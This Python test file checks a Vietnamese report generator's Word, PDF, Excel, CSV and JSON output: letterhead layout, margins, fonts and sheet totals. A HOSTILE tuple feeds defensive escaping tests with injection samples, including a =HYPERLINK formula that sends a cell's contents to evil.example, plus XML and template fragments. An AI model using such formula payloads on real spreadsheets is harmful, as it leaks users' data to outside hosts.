"""The documents, read back by other programs than wrote them."""

import asyncio
import csv
import io
import json
import zipfile
from collections.abc import Mapping
from datetime import datetime
from typing import Any

import msgspec
import openpyxl
import pypdfium2
import pytest
from lxml import etree

from dashboards.reports import docx, pdf, xlsx
from dashboards.reports import figures as reports
from dashboards.reports.document import PAPER_ROWS, document, number
from dashboards.reports.figures import Figures
from dashboards.reports.fitting import fitted
from dashboards.reports.fonts.make import letters
from dashboards.reports.form import PARTY, STATE, Form, FormKind
from dashboards.reports.jobs import Format
from dashboards.reports.tables import Kind, Table
from dashboards.reports.writing import written
from tests.reports.conftest import FORMS, HEADS, OURS, TALLER, THEIRS, leading
from tests.reports.offices import office
from tests.reports.reading import W, lines, pages, part, spot, words

VIETNAMESE = (
    "ÀÁẢÃẠĂẰẮẲẴẶÂẦẤẨẪẬĐÈÉẺẼẸÊỀẾỂỄỆÌÍỈĨỊÒÓỎÕỌÔỒỐỔỖỘƠỜỚỞỠỢÙÚỦŨỤƯỪỨỬỮỰỲÝỶỸỴ"
    "àáảãạăằắẳẵặâầấẩẫậđèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵ"
)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm")',
    "<b>đậm</b><w:p/>",
    "& Sons &amp; ]]>",
    "+84@SUM(1)",
    "#panic(1) $x$ *đậm* \\ {{ co_quan }} {% for x in y %} {_{",
    "Ủ" * 300,
    "Tên có\x07 ký tự \x1b lạ \ufffe và \U0001f600",
)


# --- Word


def test_the_partys_head_stands_as_36_hd_has_it(files: Mapping[Format, bytes]) -> None:
    told = [(line.text, line.size, line.bold, line.italic, line.align, line.cell) for line in lines(files[Format.DOCX])]
    for line in (
        ("THÀNH ỦY HÀ NỘI", 14, False, False, "center", 0),
        ("BAN TUYÊN GIÁO VÀ DÂN VẬN", 14, True, False, "center", 0),
        ("*", 14, False, False, "center", 0),
        ("Số 12-BC/BTGDVTU", 14, False, False, "center", 0),
        ("ĐẢNG CỘNG SẢN VIỆT NAM", 15, True, False, "center", 1),
        ("Hà Nội, ngày 07 tháng 3 năm 2026", 14, False, True, "center", 1),
        ("BÁO CÁO", 16, True, False, "center", None),
        ("-----", 14, True, False, "center", None),
        ("TRƯỞNG BAN", 14, True, False, "center", 1),
        ("Nguyễn Văn Ổn", 14, True, False, "center", 1),
    ):
        assert line in told
    (about,) = [line for line in lines(files[Format.DOCX]) if line.text.startswith("kết quả tổ chức")]
    assert (about.size, about.bold, about.align) == (14, True, "center")
    body = next(line for line in lines(files[Format.DOCX]) if line.text.startswith("Thực hiện kế hoạch"))
    assert (body.size, body.bold, body.align) == (14, False, "both")


def test_the_states_head_stands_as_decree_30_has_it(state_docx: bytes) -> None:
    told = [(line.text, line.size, line.bold, line.italic, line.align, line.cell) for line in lines(state_docx)]
    for line in (
        (STATE.body, 13, True, False, "center", 0),
        ("Số: 12/BC-UBND", 13, False, False, "center", 0),
        ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", 13, True, False, "center", 1),
        ("Độc lập - Tự do - Hạnh phúc", 14, True, False, "center", 1),
        ("Hà Nội, ngày 07 tháng 3 năm 2026", 14, False, True, "center", 1),
        ("BÁO CÁO", 14, True, False, "center", None),
        ("TM. ỦY BAN NHÂN DÂN", 14, True, False, "center", 1),
        ("CHỦ TỊCH", 14, True, False, "center", 1),
        ("Nơi nhận:", 12, True, True, "left", 0),
        ("- Lưu: VT.", 11, False, False, "left", 0),
    ):
        assert line in told
    # Nobody stands above a people's committee of a city: no line is left empty for them.
    assert told[0][0] == STATE.body


def test_both_forms_have_the_margins_of_their_rules(files: Mapping[Format, bytes], state_docx: bytes) -> None:
    for made in (files[Format.DOCX], state_docx):
        first, *_ = part(made).iter(f"{W}sectPr")
        margins, size = first.find(f"{W}pgMar"), first.find(f"{W}pgSz")
        assert margins is not None
        assert size is not None
        mm = {
            side: round(int(margins.get(f"{W}{side}") or 0) / 1440 * 25.4)
            for side in ("top", "bottom", "left", "right")
        }
        assert mm == {"top": 20, "bottom": 20, "left": 30, "right": 15}
        assert [round(int(size.get(f"{W}{side}") or 0) / 1440 * 25.4) for side in ("w", "h")] == [210, 297]
        faces = {font.get(f"{W}ascii") for font in part(made, "word/styles.xml").iter(f"{W}rFonts")} - {None}
        assert "Times New Roman" in faces


def test_a_number_that_is_not_given_leaves_room_for_one() -> None:
    assert number(msgspec.structs.replace(PARTY, number="7")) == "Số 07-BC/BTGDVTU"
    assert number(msgspec.structs.replace(STATE, number="112")) == "Số: 112/BC-UBND"
    assert number(STATE).replace("\u2002", " ") == "Số:     /BC-UBND"


def test_word_and_pdf_say_the_same(files: Mapping[Format, bytes], second: Figures) -> None:
    told = fitted(document(second, OURS))
    in_word = words(files[Format.DOCX]).replace("\u00a0", " ")
    in_pdf = " ".join(pages(files[Format.PDF])).replace("\u00a0", " ")
    said = [told.about, told.opening, *(text for part in told.sections for text in (part.heading, *part.paragraphs))]
    said += [told.number, told.dated, told.signer, told.proof, *(each.title.upper() for each in told.appendices)]
    for text in said:
        plain = text.replace("\u00a0", " ")
        assert plain in in_word
        assert plain in in_pdf
    for head in (HEADS.journal, HEADS.audit):
        assert head in in_word
        assert head in in_pdf


def test_heads_of_tables_come_again_on_every_page(files: Mapping[Format, bytes]) -> None:
    tables = list(part(files[Format.DOCX]).iter(f"{W}tbl"))
    repeated = [table for table in tables if table.find(f"{W}tr/{W}trPr/{W}tblHeader") is not None]
    # All but those of letterhead and signature.
    assert len(repeated) == len(tables) - 2
    halls = [page for page in pages(files[Format.PDF]) if page.count("Đúng hạn") > 5]
    assert len(halls) > 15
    assert all("Triệu tập" in page for page in halls)


# --- PDF


def test_no_code_and_no_hour_runs_into_the_next_column(second: Figures) -> None:
    for each in document(second, OURS).appendices:
        across = sum(each.grid.widths)
        for place, cells in enumerate(zip(*each.grid.rows, strict=True)):
            unbroken = max((len(word) for cell in cells for word in cell.split(" ") if word[:1].isdigit()), default=0)
            # A digit of ten points is five points wide, and there is air of three on either side.
            assert 742 * each.grid.widths[place] / across >= 5 * unbroken + 6, (each.title, each.grid.heads[place])


def test_no_letter_is_missing_in_the_pdf(brief: Figures) -> None:
    form = msgspec.structs.replace(OURS, title=f"{VIETNAMESE[:67]} {VIETNAMESE[67:]} – — « » … ₫ ½", called="Ban Ổ")
    seen = pages(pdf.write(brief, form))[0].replace(" ", "")
    assert form.title.replace(" ", "") in seen


def test_a_letter_that_the_typeface_lacks_is_a_box_and_fails_no_report(brief: Figures) -> None:
    form = msgspec.structs.replace(OURS, title="Hội nghị \u4e2d và \U0001f600 hết")
    assert "Hội nghị □ và □ hết" in pages(pdf.write(brief, form))[0]


def test_what_was_written_down_of_the_typeface_is_true() -> None:
    written_down = (pdf.HERE / "fonts" / "letters.txt").read_text(encoding="ascii")
    assert written_down == letters()
    assert pdf.known().issuperset(VIETNAMESE)


def test_the_pdf_is_tagged_numbered_and_holds_its_typeface(files: Mapping[Format, bytes]) -> None:
    made = files[Format.PDF]
    document = pypdfium2.PdfDocument(made)
    assert pypdfium2.raw.FPDFCatalog_IsTagged(document.raw)
    assert "Báo cáo kết quả" in document.get_metadata_dict()["Title"]
    document.close()
    told = pages(made)
    assert all(f"{place}/{len(told)}" in page for place, page in enumerate(told[1:], start=2))
    assert f"1/{len(told)}" not in told[0][:20]
    assert b"Tinos" in made


def test_the_pdfs_head_stands_where_36_hd_has_it(files: Mapping[Format, bytes]) -> None:
    left, top = spot(files[Format.PDF], "BAN TUYÊN GIÁO")
    assert 30 <= left <= 35
    assert 25 <= top <= 32
    left, top = spot(files[Format.PDF], "ĐẢNG CỘNG SẢN")
    assert 105 <= left <= 120
    assert 20 <= top <= 25


# --- Excel


@pytest.fixture(scope="module")
def book(files: Mapping[Format, bytes]) -> Any:
    return openpyxl.load_workbook(io.BytesIO(files[Format.XLSX]))


def test_no_table_has_two_columns_of_one_name(second: Figures) -> None:
    for table in second.tables:
        heads = [column.title for column in table.columns]
        assert len(set(heads)) == len(heads), table.name


def rows_of(sheet: Any, table: Table) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=5, max_row=4 + max(1, len(table.rows)))]


def test_every_table_is_a_sheet_whose_columns_add_up(book: Any, second: Figures) -> None:
    assert len(book.sheetnames) == len(second.tables)
    for sheet, table in zip(book.worksheets, second.tables, strict=True):
        assert [cell.value for cell in sheet[4]][: len(table.columns)] == [column.title for column in table.columns]
        if table.totals is None or table.name == "by_sitting":
            continue
        rows = rows_of(sheet, table)
        for place, column in enumerate(table.columns):
            total = table.totals[place]
            # A median or the longest of all is no sum.
            if column.kind is Kind.INT and isinstance(total, int):
                assert sum(row[place] or 0 for row in rows) == total, (table.name, column.key)


def test_numbers_and_moments_are_real_and_shown_as_in_vietnam(book: Any, second: Figures) -> None:
    sheet = next(sheet for sheet in book if sheet["A1"].value == "Kết quả theo buổi và đợt báo cáo")
    heads = [cell.value for cell in sheet[4]]
    due = sheet.cell(5, heads.index("Hạn báo cáo") + 1)
    assert due.value == datetime(2026, 3, 7, 8, 15)  # noqa: DTZ001 - a sheet knows no zone: it is the hall's
    assert due.number_format == "[$-42A]dd/mm/yyyy hh:mm"
    share = sheet.cell(5, heads.index("Đúng hạn (%)") + 1)
    assert (share.value, share.number_format) == (0.982, "[$-42A]0.0%")
    people = sheet.cell(5, heads.index("Triệu tập") + 1)
    assert (people.value, people.data_type, people.number_format) == (55_200, "n", "[$-42A]#,##0")


def test_sheets_are_filtered_frozen_and_ready_to_print(book: Any, second: Figures) -> None:
    for sheet, table in zip(book.worksheets, second.tables, strict=True):
        assert sheet.freeze_panes is not None
        assert sheet.auto_filter.ref.startswith("A4:")
        assert sheet.print_area
        assert sheet.print_title_rows == "$4:$4"
        # The totals are not sorted in among the rows.
        if table.totals:
            assert sheet.auto_filter.ref.endswith(str(4 + len(table.rows)))
    assert [len(sheet._charts) for sheet in book.worksheets].count(1) == 2


# --- CSV and JSON


def test_the_csv_has_its_mark_and_every_cell(files: Mapping[Format, bytes], second: Figures) -> None:
    raw = files[Format.CSV]
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    titles = {row[0] for row in rows if len(row) == 1}
    # None of our own words looks as if it could be run.
    assert not [cell for row in rows for cell in row if cell.startswith("'")]
    assert {table.title for table in second.tables} <= titles
    assert ["Tổng cộng", "766", "766", "55200", "52614", "2311", "275", "0", "118", "95.3", "4.2", "0.5", "0.0"] in rows


def test_the_json_holds_the_figures_from_which_all_can_be_made_again(
    files: Mapping[Format, bytes], second: Figures
) -> None:
    told = json.loads(files[Format.JSON])
    assert told["form"]["number"] == "12"
    assert msgspec.convert(told["figures"], Figures) == second


# --- all of them


def test_the_same_figures_make_the_same_bytes_and_others_do_not(
    files: Mapping[Format, bytes], first: Figures, second: Figures
) -> None:
    kept = reports.decode(reports.encode(second))
    assert docx.write(kept, OURS) == files[Format.DOCX]
    assert xlsx.write(kept, OURS) == files[Format.XLSX]
    assert pdf.write(kept, OURS) == files[Format.PDF]
    assert docx.write(first, OURS) != files[Format.DOCX]
    for name in (Format.DOCX, Format.XLSX):
        with zipfile.ZipFile(io.BytesIO(files[name])) as archive:
            assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_a_real_office_opens_every_file(offered: Mapping[str, bytes]) -> None:
    for name, made in offered.items():
        told = " ".join(pages(made))
        assert "52.614" in told or "52614" in told or name in ("state.docx", "brief-emblem.docx"), name
    assert "Số 12-BC/BTGDVTU" in pages(offered["party.docx"])[0]
    assert "Số: 12/BC-UBND" in pages(offered["state.docx"])[0]
    # As Vietnam writes them, whatever the computer is set to.
    assert "52.614" in " ".join(pages(offered["report.xlsx"]))
    assert "95,3%" in " ".join(pages(offered["report.xlsx"]))


@pytest.mark.parametrize("name", list(FORMS))
def test_the_leaders_page_is_one_page_with_its_signature(
    offered: Mapping[str, bytes], first: Figures, second: Figures, name: str
) -> None:
    form = FORMS[name]
    leads(pdf.write(leading(first), form), form, "52.631")
    leads(pdf.write(leading(second), form), form, "52.614")
    # By a real office. Of the first version one is enough: it says less.
    leads(offered[f"{name}-2.docx"], form, "52.614")
    leads(offered["state.docx"], THEIRS, "52.631")


@pytest.mark.parametrize(("form", "change"), TALLER, ids=lambda each: each if isinstance(each, str) else str(each.kind))
def test_it_stays_one_page_under_an_offices_own_taller_head_or_says_that_it_does_not(
    offered: Mapping[str, bytes], second: Figures, form: Form, change: str
) -> None:
    page, after, *_ = pages(offered[f"{form.kind}-{change}.docx"])
    told = docx.paged(leading(second), form, office(form.kind, change))
    assert told.runs_over is (change == "beyond")
    assert (form.signer in page) is not told.runs_over
    assert ("Phụ lục" in after[:40]) is not told.runs_over


def test_under_a_taller_head_the_table_stays_where_there_is_room_for_it(offered: Mapping[str, bytes]) -> None:
    leads(offered["brief-emblem.docx"], OURS, "52.631")


def leads(made: bytes, form: Form, present: str) -> None:
    """All of it stands on the first page, and the next one is the first appendix."""
    page, after, *_ = pages(made)
    for said in (form.signer, f"- {form.recipients[-1]}", present):
        assert said in page
    assert "Phụ lục" in after[:40]
    # A letterhead as long as it gets may take the table's room; then the page says where it stands.
    in_page = "Hội trường bổ sung" in page
    assert in_page or form not in (OURS, THEIRS)
    assert in_page or "(Phụ lục 1, 2)" in page or "(Phụ lục I, II)" in page


def test_what_no_setting_brings_onto_one_page_goes_on_with_its_signature(second: Figures) -> None:
    form = msgspec.structs.replace(OURS, recipients=tuple(f"Nơi nhận thứ {place}" for place in range(1, 31)))
    one, two, *_ = pages(pdf.write(leading(second), form))
    assert "thông suốt" in two
    assert form.signer in two
    assert "Nơi nhận thứ 30." in two
    assert form.signer not in one


@pytest.fixture(scope="module")
def hostile(second: Figures) -> Figures:
    """The same with names that want to be more than names."""
    table = second.table("by_point")
    rows = tuple((row[0], HOSTILE[place], *row[2:]) for place, row in enumerate(table.rows[: len(HOSTILE)]))
    wild = msgspec.structs.replace(table, rows=rows)
    return msgspec.structs.replace(second, title=HOSTILE[1], tables=(second.table("by_unit"), wild))


def test_names_arrive_as_text_in_every_format(hostile: Figures) -> None:
    form = msgspec.structs.replace(OURS, body=HOSTILE[2], signer=HOSTILE[0], recipients=(HOSTILE[1],))
    safe = HOSTILE[:-1]
    wild = msgspec.structs.replace(
        hostile, tables=tuple(msgspec.structs.replace(t, rows=t.rows[: len(safe)]) for t in hostile.tables)
    )
    made = asyncio.run(written(wild, form, list(Format))).files
    in_word, in_pdf = words(made[Format.DOCX]), "".join(pages(made[Format.PDF])).replace(" ", "")
    sheet = openpyxl.load_workbook(io.BytesIO(made[Format.XLSX])).worksheets[-1]
    in_sheet = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    in_csv = [cell for row in csv.reader(io.StringIO(made[Format.CSV].decode("utf-8-sig"), newline="")) for cell in row]
    in_json = made[Format.JSON].decode()
    for name in safe:
        assert name in in_word
        assert name.replace(" ", "") in in_pdf
        assert in_sheet[name] == "s"
        assert ("'" + name if name[0] in "=+-@" else name) in in_csv
        assert json.dumps(name, ensure_ascii=False)[1:-1] in in_json
    assert not any(cell.startswith(("=", "+", "@")) for cell in in_csv)
    (kept,) = [each for each in etree.ElementBase.iter(part(made[Format.DOCX]), f"{W}t") if each.text == HOSTILE[0]][:1]
    assert kept.getparent().tag == f"{W}r"


def test_what_no_document_may_hold_is_a_blank(hostile: Figures) -> None:
    wild = HOSTILE[-1]
    for made in (docx.write(hostile, OURS), xlsx.write(hostile, OURS)):
        with zipfile.ZipFile(io.BytesIO(made)) as archive:
            for name in archive.namelist():
                if name.endswith(".xml"):
                    etree.fromstring(archive.read(name))
    assert wild.replace("\x07", " ").replace("\x1b", " ").replace("\ufffe", " ") in words(docx.write(hostile, OURS))


def test_a_table_too_long_for_paper_is_in_the_spreadsheet_and_the_paper_says_so(second: Figures) -> None:
    table = second.table("by_point")
    rows = tuple(table.rows[place % 766] for place in range(PAPER_ROWS + 1))
    long = msgspec.structs.replace(second, tables=(second.table("by_type"), msgspec.structs.replace(table, rows=rows)))
    told = document(long, THEIRS).appendices[-1]
    assert told.grid.rows == ()
    assert told.grid.totals
    assert "4.001 dòng" in told.note
    book = openpyxl.load_workbook(io.BytesIO(xlsx.write(long, THEIRS)), read_only=True)
    assert book.worksheets[-1].max_row >= PAPER_ROWS + 1


def test_the_states_appendices_are_counted_in_roman_numbers(second: Figures) -> None:
    told = [document(second, form).appendices[3].label.replace("\u00a0", " ") for form in (OURS, THEIRS)]
    assert told == ["Phụ lục 4", "Phụ lục IV"]
    assert {form.kind for form in (OURS, THEIRS)} == set(FormKind)
